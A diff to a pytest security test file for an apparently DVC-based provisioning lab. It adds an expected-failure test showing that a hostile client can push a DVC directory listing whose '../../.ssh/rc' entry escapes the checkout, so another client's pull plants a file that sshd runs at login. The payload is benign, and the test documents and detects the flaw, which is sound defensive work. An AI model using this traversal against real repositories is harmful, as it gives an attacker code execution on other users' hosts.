@@ -5,12 +5,16 @@
 - the connecting admin on a client plants a `dvc` in a dvc_venv it can write, which root runs;
 - a client's storage key changes the mode of dvc_storage (world-writable for every local user on
   storage) over SFTP;
+- a client pushes a commit and a DVC directory listing whose entries climb out of the checkout (`..`):
+  another client's `dvc pull` writes the client's file wherever the path says, as that client's user;
 - a client of one project pushes, with its own git key, to the repository of another project that
   shares the storage host's git_user.
 """
 
 from __future__ import annotations
 
+import hashlib
+import json
 import subprocess
 from pathlib import Path
 
@@ -164,6 +168,52 @@ def test_a_client_key_cannot_open_dvc_storage_to_other_local_users(make_lab, tmp
         chmod.stderr
     planted = lab.exec("storage", ["su", "-s", "/bin/sh", "-c", "echo x > /mnt/nfs/cache/files/planted", "nobody"])
     assert planted.returncode != 0
+
+
+#: Where the hostile listing sends its file on the victim: `~/.ssh/rc`, which sshd runs at every login.
+ESCAPE = "../../.ssh/rc"
+PAYLOAD = b"touch /tmp/ssh-rc-ran\n"
+
+
+def _object(content: bytes, suffix: str = "") -> tuple[str, str]:
+    """A DVC object's md5 and its path in the SFTP view of dvc_storage."""
+    md5 = hashlib.md5(content).hexdigest()  # DVC names objects by md5
+    return md5, f"/cache/files/md5/{md5[:2]}/{md5[2:]}{suffix}"
+
+
+@pytest.mark.xfail(strict=True, reason="DVC writes a directory listing's entries wherever their relpath says")
+def test_a_directory_listing_from_another_client_never_writes_outside_the_checkout(make_lab, tmp_path: Path) -> None:
+    """ws1 (hostile, read-write) uploads a file and a listing that sends it to ../../.ssh/rc, commits a .dvc
+    file naming the listing and pushes; ws2 pulls as `provision onboard --pull` does."""
+    lab = make_lab(["storage", "ws1", "ws2"])
+    done = provision("bootstrap", "-i", str(lab.inventory_path), home=tmp_path)
+    assert done.returncode == 0, done.stdout + done.stderr
+    status, document = provision_json("onboard", "-i", str(lab.inventory_path), home=tmp_path)
+    assert status == 0, failures(document)
+
+    file_md5, file_path = _object(PAYLOAD)
+    listing = json.dumps([{"md5": file_md5, "relpath": ESCAPE}]).encode()
+    listing_md5, listing_path = _object(listing, ".dir")
+    lab.host_path("ws1", "/tmp/payload").write_bytes(PAYLOAD)
+    lab.host_path("ws1", "/tmp/listing").write_bytes(listing)
+    batch = "".join(f"-mkdir {directory}\n" for directory in ("/cache/files", "/cache/files/md5",
+                                                                  file_path.rsplit("/", 1)[0],
+                                                                  listing_path.rsplit("/", 1)[0]))
+    batch += f"put /tmp/payload {file_path}\nput /tmp/listing {listing_path}\n"
+    uploaded = lab.exec("ws1", client_sftp(lab, "dvc"), input=batch)
+    assert uploaded.returncode == 0, uploaded.stderr
+    pointer = f"outs:\n- md5: {listing_md5}.dir\n  size: {len(PAYLOAD)}\n  nfiles: 1\n  hash: md5\n  path: models\n"
+    lab.host_path("ws1", f"{WORKDIR}/models.dvc").write_text(pointer)
+    commit = ("set -e; cd \"$0\"; git add models.dvc; "
+              "git -c user.name=intruder -c user.email=intruder@example.invalid commit -q -m models; git push -q")
+    pushed = lab.exec("ws1", ["sh", "-c", commit, WORKDIR])
+    assert pushed.returncode == 0, pushed.stderr
+
+    pulled = lab.exec("ws2", ["env", "DVC_NO_ANALYTICS=1", "sh", "-c", 'cd "$0" && git pull -q && "$1" pull',
+                              WORKDIR, DVC])
+    escaped = lab.exec("ws2", ["ls", "-l", "/root/.ssh/rc"])
+    assert escaped.returncode != 0, escaped.stdout + pulled.stdout + pulled.stderr
+    assert "models" in pulled.stdout + pulled.stderr
 
 
 @pytest.mark.xfail(strict=True, reason="git_user's ~/git-repositories is one list for every inventory that "
